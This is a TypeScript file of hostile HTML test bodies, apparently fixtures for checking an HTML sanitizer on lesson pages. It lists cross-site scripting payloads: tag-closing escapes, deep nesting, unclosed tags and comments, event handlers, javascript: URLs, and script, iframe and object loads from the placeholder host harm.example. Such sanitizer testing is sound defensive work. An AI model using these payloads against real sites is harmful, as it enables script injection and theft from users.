import type { HostileClass } from "./hostile-class";

/** Tags by which a lesson might close its own box. It would reach the page around it. */
const closers = [
  "</div>",
  "</div></div></article></main>",
  "</body></html>",
  "</p></section></article>",
  "</table></td></tr>",
  "</select></option>",
  "</math></svg>",
  "</script>",
  "</style></title></textarea></noscript></xmp></iframe>",
  "--></div>",
  "]]></div>",
];

const deep = (open: string, depth: number, close: string) => open.repeat(depth) + close;

export const escapes: HostileClass = {
  name: "nesting and closing of what stands around",
  bodies: [
    ...closers.flatMap((close) => [
      `${close}<script>harm()</script>`,
      `<p>a</p>${close}<p class="out">b</p><img src=x onerror=harm()>`,
    ]),
    deep("<p>", 400, "<img src=x onerror=harm()>"),
    deep("<b><i>", 300, "<img src=x onerror=harm()>"),
    deep("<a href=/math>", 50, "<img src=x onerror=harm()>"),
    deep("<table><tr><td>", 60, "<img src=x onerror=harm()>"),
    deep("<math><mtext>", 80, "<img src=x onerror=harm()>"),
    deep("<svg><desc>", 80, "<img src=x onerror=harm()>"),
    deep("<template>", 60, "<img src=x onerror=harm()>"),
    deep("<ul><li>", 200, "<img src=x onerror=harm()>"),
    deep("<blockquote>", 520, "<script>harm()</script>"),
    "<table><p>a</p><img src=x onerror=harm()><tr><td>b</table>",
    "<table><form><tr><td><form><input onfocus=harm() autofocus></table>",
    "<p><b><p><i></b>a</p></i><img src=x onerror=harm()>",
    "<a href=/math><a href=javascript:harm()>a</a></a>",
    "<button><button onclick=harm()>a</button></button>",
    "<nobr><nobr><img src=x onerror=harm()></nobr>",
    "<select><select><img src=x onerror=harm()>",
    "<html><head><body onload=harm()><p>a</body></html>",
    "<head><script>harm()</script></head><p>a",
    "<frameset onload=harm()><frame src=javascript:harm()></frameset>",
    "<col><caption><img src=x onerror=harm()></caption>",
    "<h2><h3><img src=x onerror=harm()></h2></h3>",
    "<details><summary><details open ontoggle=harm()><summary>a",
    "<ruby><rt><rp><img src=x onerror=harm()>",
    "<main id=permbajtja><p>a</main><footer><p>b</footer><header class=top>c</header>",
  ],
};

export const unclosed: HostileClass = {
  name: "unclosed tags and quotes",
  bodies: [
    ...[
      "script",
      "style",
      "title",
      "textarea",
      "xmp",
      "noscript",
      "iframe",
      "noembed",
      "plaintext",
      "template",
    ].flatMap((tag) => [`<p>a</p><${tag}>harm()`, `<p>a</p><${tag} src=https://harm.example/a`]),
    ...["select", "svg", "math", "table", "object", "form", "button", "a href=javascript:harm()"].map(
      (tag) => `<p>a</p><${tag}>b`,
    ),
    "<p>a</p><!--",
    "<p>a</p><!-- <p>b",
    "<p>a</p><!-->",
    "<p>a</p><!---><img src=x onerror=harm()>",
    "<p>a</p><!--!><img src=x onerror=harm()>-->",
    '<p>a</p><! foo="><img src=x onerror=harm()>">',
    '<p>a</p><? foo="><img src=x onerror=harm()>">',
    '<p>a</p></ foo="><img src=x onerror=harm()>">',
    "<p>a</p><![CDATA[<p>b",
    '<p title="a',
    "<p title='a><img src=x onerror=harm()>",
    "<img src='https://harm.example/?",
    '<a href="https://harm.example/?',
    "<img src=x onerror=harm()",
    '<img src=x onerror="harm()',
    "<p><a href='/math' title='<img src=x onerror=harm()>'>a",
    "<script src=//harm.example/a ",
    "<script>harm()",
    "<<script>harm()//<</script>",
    "<<img src=x onerror=harm()>>",
    "<p/<img src=x onerror=harm()>",
    '<p "<img src=x onerror=harm()>">a',
    "<p a='b'c='d'<img src=x onerror=harm()>",
    "</p><img src=x onerror=harm()>",
    "</br onclick=harm()>a</br>",
    "<//p><img src=x onerror=harm()>",
    "<p>a<p>b<p onclick=harm()>c",
  ],
};

const whole =
  '<section class="check"><h2 id="a">Pyetje</h2><p title="x">Sa <em>është</em> <a href="javascript:harm()">kjo</a>?</p>' +
  '<math><mfrac><mn>1</mn><mi onclick="harm()">r</mi></mfrac></math><!-- <img src=x onerror=harm()> -->' +
  "<img src=x onerror='harm()'><style>p{x:url(//harm.example/a)}</style><script>harm()</script></section>";

/** One body cut off at regular intervals: each cut is inside another element. */
export const truncation: HostileClass = {
  name: "truncation",
  bodies: Array.from({ length: Math.ceil(whole.length / 7) }, (_, part) => whole.slice(0, 7 * (part + 1))),
};

export const scripts: HostileClass = {
  name: "elements that run or load by themselves",
  bodies: [
    "<script>harm()</script>",
    "<SCRIPT>harm()</SCRIPT>",
    "<script type=module>harm()</script>",
    "<script type=text/javascript>harm()</script >",
    "<script>harm()</script\n>",
    "<script/x>harm()</script>",
    "<script src=data:,harm()></script>",
    "<script src=//harm.example/a.js></script>",
    "<script src=/assets/x.js></script><script>harm()</script>",
    '<script type="importmap">{"imports":{"a":"data:text/javascript,harm()"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://harm.example/"]}]}</script>',
    '<script type="application/json">"</script><script>harm()</script>"</script>',
    "<script nonce=x>harm()</script>",
    "<scr<script>ipt>harm()</scr</script>ipt>",
    "<script>harm()</script><script>harm()</script><script>harm()</script>",
    '<iframe srcdoc="<script>parent.harm()</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.harm()&gt;"></iframe>',
    '<iframe srcdoc="<script>top.harm()</script>" sandbox="allow-scripts allow-same-origin"></iframe>',
    "<object data='data:text/html,<script>parent.harm()</script>'></object>",
    "<object type=text/html data=//harm.example/></object>",
    "<embed src='data:text/html,<script>harm()</script>'>",
    "<applet code=x archive=//harm.example/a.jar></applet>",
    "<bgsound src=//harm.example/a.wav>",
    "<xml src=//harm.example/a.xml></xml><xss style=behavior:url(a)>",
    "<form action=//harm.example/ id=f><input name=a value=b></form><button form=f>a</button>",
    "<form action=javascript:harm()><input type=submit><input type=image src=//harm.example/a.png></form>",
    "<keygen autofocus onfocus=harm()>",
    "<canvas onclick=harm()></canvas><dialog open onclose=harm()><form method=dialog><button>a</button></form></dialog>",
    "<slot onslotchange=harm()></slot><p slot=a>b</p>",
    "<button command=show-modal commandfor=menyja>a</button><button popovertarget=menyja>b</button>",
    "<input type=hidden popover=auto onbeforetoggle=harm() id=x><button popovertarget=x>a</button>",
    "<a href=/math target=_blank rel=opener>a</a><a href=/math target=_top>b</a><a href=/covers/graviteti.svg download>c</a>",
  ],
};
